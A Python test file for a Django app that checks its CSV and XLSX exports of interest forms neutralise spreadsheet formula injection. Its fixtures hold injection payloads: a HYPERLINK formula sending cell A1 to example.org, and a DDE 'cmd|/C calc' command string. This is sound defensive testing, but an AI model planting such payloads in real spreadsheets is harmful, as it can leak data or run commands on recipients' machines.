"""Forms as tables for the office program: whole, one's own, and text in every cell."""

import csv
import io
import shutil
import subprocess
from datetime import date

import openpyxl
import pytest
from django.utils.translation import override

from interest_forms.interest.triage import export
from interest_forms.models import ExpressionOfInterest
from tests.factories import ActionGroupFactory, MembershipFactory
from tests.interest_factories import ApplicantFactory, ExpressionOfInterestFactory

pytestmark = pytest.mark.django_db

TABLE = "/admin/interest_forms/expressionofinterest/"
FORMULA = 'HYPERLINK("https://example.org?"&A1,"виж")'
TWINS = [chr(ord(sign) + 0xFEE0) for sign in "=+-@"]
SIGNS = [*"=+-@", *TWINS, "\t=", " =", "\u00a0+", "\r\n@", "|", "%"]
ASKED = ["fixed dates", "best times", "what may be made", "best reached", "whose it is"]
OFFICE = shutil.which("soffice") or "soffice"


@pytest.fixture
def group():
    return ActionGroupFactory()


@pytest.fixture
def staff(client, group):
    user = MembershipFactory(group=group, role="editor").user
    client.force_login(user)
    return user


@pytest.fixture
def forms(group):
    """One for each sign, its texts begin with it; and one of another group."""
    made = []
    for number, sign in enumerate(SIGNS):
        form = ExpressionOfInterestFactory(
            group=group,
            code=f"{number:09}",
            title=sign + FORMULA,
            description=f"{sign}1+1\nвтори ред",
            place_text=f"{sign}cmd|'/C calc'!A0",
        )
        ApplicantFactory(form=form, name=f"{sign}SUM(1;1)", phone="+359 888 123 456")
        made.append(form)
    made.append(ExpressionOfInterestFactory(title="Чуждото"))
    return made


def exported(client, forms, action):
    chosen = {"action": action, "_selected_action": [form.pk for form in forms]}
    answer = client.post(TABLE, chosen, headers={"accept-language": "bg"})
    return answer.getvalue()


def as_told(group):
    """What stands in the database, as text, a list for each form."""
    rows = ExpressionOfInterest.objects.filter(group=group).order_by("-received", "-pk")
    told = export.rows(rows)
    return [["" if cell is None else str(cell) for cell in row] for row in told]


def test_spreadsheet_holds_every_cell_as_text(client, staff, group, forms):
    file = exported(client, forms, "export_xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(file)).active
    _heads, *rows = sheet.iter_rows()
    assert [[cell.value or "" for cell in row] for row in rows] == [
        # XML knows one kind of line's end.
        [text.replace("\r\n", "\n") for text in row]
        for row in as_told(group)
    ]
    assert {cell.data_type for row in rows for cell in row if cell.value} <= {
        "s",
        "inlineStr",
    }


def test_every_answer_of_a_form_has_its_column(group):
    form = ExpressionOfInterestFactory(
        group=group, months=[5], weekdays=[5], offers=["3d"], materials_rights="own"
    )
    form.fixed_dates.create(day=date(2027, 5, 6), last_day=date(2027, 5, 7))
    ApplicantFactory(form=form, preferred="visit")

    with override("en"):
        (row,) = as_told(group)
        names = export.heads()

    told = dict(zip(names, row, strict=True))
    assert [told[name] for name in ASKED] == [
        "6–7 May 2027",
        "May; Saturday",
        "a 3D model",
        "in person",
        "they are mine",
    ]


def test_table_holds_what_was_told_with_formulas_made_harmless(
    client, staff, group, forms
):
    text = exported(client, forms, "export").decode("utf-8-sig")

    _heads, *rows = csv.reader(io.StringIO(text, newline=""))
    assert [[cell.removeprefix("'") for cell in row] for row in rows] == as_told(group)
    begins = [cell.lstrip()[:1] for row in rows for cell in row if cell.strip()]
    assert set(begins) & {*"=+-@|%", *TWINS} == set()


def test_office_program_opens_both_as_text(client, staff, group, forms, tmp_path):
    names = {"export": "table.csv", "export_xlsx": "sheet.xlsx"}
    for action, name in names.items():
        (tmp_path / name).write_bytes(exported(client, forms, action))

    subprocess.run(  # noqa: S603 -- our own command
        [OFFICE, "--headless", "--convert-to", "fods", *names.values()],
        cwd=tmp_path,
        env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
        check=True,
        timeout=90,
    )

    for opened in ("table.fods", "sheet.fods"):
        told = (tmp_path / opened).read_text()
        assert "table:formula=" not in told
        assert "SUM(1;1)" in told
